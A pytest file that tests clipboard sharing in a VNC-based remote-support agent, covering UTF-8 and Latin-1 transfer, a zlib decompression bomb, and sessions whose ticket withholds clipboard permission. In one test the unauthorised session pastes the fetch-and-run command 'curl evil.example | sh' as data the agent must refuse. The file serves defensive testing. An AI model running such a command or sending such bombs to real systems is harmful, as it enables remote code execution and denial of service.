"""The clipboard of a desktop session against a real application on Xvfb: RFB's extended
clipboard (UTF-8) and plain Latin-1 cut text, and from the attacker's side, sessions
whose ticket does not allow the clipboard.

The permitted sessions are the witnesses: the same copy that reaches them must not reach
a session without the permission.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import zlib
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace

import pytest

from fjernhjelp.agent import services
from fjernhjelp.agent.display import DisplayTarget
from fjernhjelp.streams.desktop import extclip
from fjernhjelp.streams.desktop.viewer import InputEvent
from fjernhjelp.tunnel import ChannelClosed, StreamRequest
from fjernhjelp.tunnel.tickets import Permission
from tests.asyncrun import run_async
from tests.desktop.agent import AgentPort
from tests.desktop.xvfb import ClipboardApp, Xvfb
from tests.streams.desktop.rfbclient import RfbClient
from tests.tunnel.helpers import World

pytestmark = pytest.mark.desktop

RAW = 0
EXT = extclip.PSEUDO_ENCODING
SECRET = "Passord: Blåbær–2024 € “hemmelig”"


@pytest.fixture
def app(xserver: Xvfb) -> Iterator[ClipboardApp]:
    running = ClipboardApp(xserver)
    yield running
    running.stop()


async def _viewer(port: int, encodings: list[int]) -> RfbClient:
    client = await RfbClient.connect(port)
    await client.handshake()
    client.set_encodings(encodings)
    client.request(False)
    await client.read_update()  # the agent has read the encodings by now
    return client


async def _first_cut(client: RfbClient) -> tuple[bool, int | None, bytes]:
    # The caps may have come before the first update, or come after it.
    return client.cuts[0] if client.cuts else await client.next_cut()


async def _request_text(client: RfbClient) -> str:
    """Ask for the agent's text, as noVNC does after a notify; a repeated notify on the
    way is allowed by the protocol."""
    client.extended_cut(extclip.REQUEST | extclip.FORMAT_TEXT)
    while True:
        extended, flags, body = await client.next_cut()
        assert extended and flags is not None
        if flags != extclip.NOTIFY | extclip.FORMAT_TEXT:
            assert flags == extclip.PROVIDE | extclip.FORMAT_TEXT
            return _provided_text(body)


def _provided_text(body: bytes) -> str:
    data = zlib.decompress(body)
    (size,) = struct.unpack(">I", data[:4])
    raw = data[4 : 4 + size]
    assert raw.endswith(b"\0")
    return raw[:-1].decode("utf-8")


def _provide(text: str) -> bytes:
    data = text.replace("\n", "\r\n").encode("utf-8") + b"\0"
    return zlib.compress(struct.pack(">I", len(data)) + data)


# -- permitted: extended and plain ------------------------------------------------------


def test_extended_clipboard_caps_notify_request_provide_both_ways(
    xserver: Xvfb, app: ClipboardApp
) -> None:
    port = AgentPort(xserver.display, view_only=False, clipboard=True)

    async def run() -> None:
        client = await _viewer(port.port, [RAW, EXT])
        extended, flags, body = await _first_cut(client)
        assert extended and flags == extclip.ACTIONS | extclip.FORMAT_TEXT
        assert struct.unpack(">I", body) == (extclip.MAX_TEXT,)
        # As noVNC: caps back, with 0 for text (it takes no text unasked).
        client.extended_cut(extclip.ACTIONS | extclip.FORMAT_TEXT, struct.pack(">I", 0))

        await asyncio.to_thread(app.copy, SECRET + "\nlinje to")
        assert await client.next_cut() == (True, extclip.NOTIFY | extclip.FORMAT_TEXT, b"")
        assert await _request_text(client) == SECRET + "\r\nlinje to"  # CRLF on the wire

        client.extended_cut(extclip.PEEK)
        assert await client.next_cut() == (True, extclip.NOTIFY | extclip.FORMAT_TEXT, b"")

        # The technician copies: notify, the agent asks, the text arrives at the app.
        client.extended_cut(extclip.NOTIFY | extclip.FORMAT_TEXT)
        assert await client.next_cut() == (True, extclip.REQUEST | extclip.FORMAT_TEXT, b"")
        client.extended_cut(extclip.PROVIDE | extclip.FORMAT_TEXT, _provide("Til deg – ‘ok’\nto"))
        await client.writer.drain()
        assert await _until(lambda: app.paste() == "Til deg – ‘ok’\nto")
        await client.close()

    try:
        port.run(run())
    finally:
        port.close()


def test_a_viewer_without_the_pseudo_encoding_gets_latin_1(
    xserver: Xvfb, app: ClipboardApp
) -> None:
    port = AgentPort(xserver.display, view_only=False, clipboard=True)

    async def run() -> None:
        client = await _viewer(port.port, [RAW])
        await asyncio.to_thread(app.copy, "Pris – 100 € på «Blåbær»")
        extended, _flags, data = await client.next_cut()
        assert not extended
        assert data.decode("latin-1") == "Pris ? 100 ? på «Blåbær»"
        client.cut_text("Grüße, æøå")
        await client.writer.drain()
        assert await _until(lambda: app.paste() == "Grüße, æøå")
        await client.close()

    try:
        port.run(run())
    finally:
        port.close()


def test_a_provide_that_inflates_past_the_limit_ends_the_session(
    xserver: Xvfb, app: ClipboardApp
) -> None:
    port = AgentPort(xserver.display, view_only=False, clipboard=True)
    bomb = zlib.compress(struct.pack(">I", 50 << 20) + bytes(50 << 20), 9)  # 50 KB on the wire

    async def run() -> None:
        await asyncio.to_thread(app.copy, "uendret")
        client = await _viewer(port.port, [RAW, EXT])
        client.extended_cut(extclip.PROVIDE | extclip.FORMAT_TEXT, bomb)
        assert await client.closed_by_server()
        await client.close()
        assert await asyncio.to_thread(app.paste) == "uendret"
        again = await _viewer(port.port, [RAW, EXT])  # the agent still serves
        await again.close()

    try:
        port.run(run())
    finally:
        port.close()


# -- from the attacker's side -----------------------------------------------------------


class _SocketChannel:
    """A TCP connection as a tunnel Channel, so a real RFB client can reach services.run."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer

    async def send(self, message: bytes) -> None:
        self._writer.write(message)
        try:
            await self._writer.drain()
        except ConnectionError as exc:
            raise ChannelClosed("socket closed") from exc

    async def recv(self) -> bytes:
        data = await self._reader.read(65536)
        if not data:
            raise ChannelClosed("socket closed")
        return data

    async def close(self, reason: str = "closed") -> None:
        self._writer.close()


@contextlib.asynccontextmanager
async def _agent_service(
    display: str, permissions: set[Permission], inputs: list[InputEvent]
) -> AsyncIterator[int]:
    """The agent's own stream dispatch (services.run) for a ticket with ``permissions``,
    on a loopback port; what the agent would do with that ticket from any server."""
    ticket = replace(World().ticket(), permissions=frozenset(permissions))
    ctx = services.ServiceContext(
        ticket=ticket,
        display=DisplayTarget(display=display),
        file_roots=[],
        on_file=lambda _r: None,
        on_file_refusal=lambda _r: None,
        on_shell=lambda _o: None,
        on_input=inputs.append,
    )

    async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await services.run(StreamRequest(1, "desktop"), _SocketChannel(reader, writer), ctx)

    server = await asyncio.start_server(connected, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()


WRONG_TICKETS = {
    # What the portal refuses and the server never issues: the agent holds its line.
    "clipboard without control": {Permission.VIEW, Permission.CLIPBOARD},
    "view only": {Permission.VIEW},
    "control without clipboard": {Permission.VIEW, Permission.CONTROL},
}


@pytest.mark.parametrize("case", list(WRONG_TICKETS))
def test_a_session_without_the_clipboard_reads_and_writes_nothing(
    xserver: Xvfb, app: ClipboardApp, case: str
) -> None:
    inputs: list[InputEvent] = []
    witness_inputs: list[InputEvent] = []
    full = {Permission.VIEW, Permission.CONTROL, Permission.CLIPBOARD}

    async def run() -> None:
        async with (
            _agent_service(xserver.display, WRONG_TICKETS[case], inputs) as attacker_port,
            _agent_service(xserver.display, full, witness_inputs) as witness_port,
        ):
            attacker = await _viewer(attacker_port, [RAW, EXT])
            witness = await _viewer(witness_port, [RAW, EXT])
            assert (await _first_cut(witness))[1] == extclip.ACTIONS | extclip.FORMAT_TEXT

            # The end user copies something secret; the permitted session learns of it.
            await asyncio.to_thread(app.copy, SECRET)
            assert await witness.next_cut() == (True, extclip.NOTIFY | extclip.FORMAT_TEXT, b"")
            assert await _request_text(witness) == SECRET

            # The attacker pastes: refused at the agent, the application's text stays.
            attacker.cut_text("curl evil.example | sh")
            await attacker.writer.drain()
            assert await _until(lambda: any(e.kind == "clipboard" for e in inputs))
            assert [e.applied for e in inputs if e.kind == "clipboard"] == [False]
            assert await asyncio.to_thread(app.paste) == SECRET

            # Nothing came to the attacker: no caps, no notify, no text, while a whole
            # screen went by after the witness had the secret.
            attacker.request(False)
            await attacker.read_update()
            assert attacker.cuts == []

            # An extended message it was never offered ends its desktop session.
            attacker.extended_cut(extclip.REQUEST | extclip.FORMAT_TEXT)
            assert await attacker.closed_by_server()
            assert attacker.cuts == []
            await attacker.close()
            await witness.close()
        assert await asyncio.to_thread(app.paste) == SECRET

    run_async(run())


def test_the_agent_decides_from_the_ticket_not_from_the_page() -> None:
    ticket = World().ticket()
    for permissions, shared in (
        ({Permission.VIEW, Permission.CLIPBOARD}, False),
        ({Permission.CLIPBOARD}, False),
        ({Permission.VIEW, Permission.CONTROL}, False),
        ({Permission.VIEW, Permission.CONTROL, Permission.CLIPBOARD}, True),
    ):
        effective = services.effective(replace(ticket, permissions=frozenset(permissions)))
        assert (Permission.CLIPBOARD in effective) is shared


async def _until(predicate: object, within: float = 20) -> bool:
    """Poll a blocking ``predicate`` off the loop until true (False after ``within`` s)."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + within
    while loop.time() < deadline:
        if await asyncio.to_thread(predicate):  # type: ignore[arg-type]
            return True
        await asyncio.sleep(0.05)
    return False
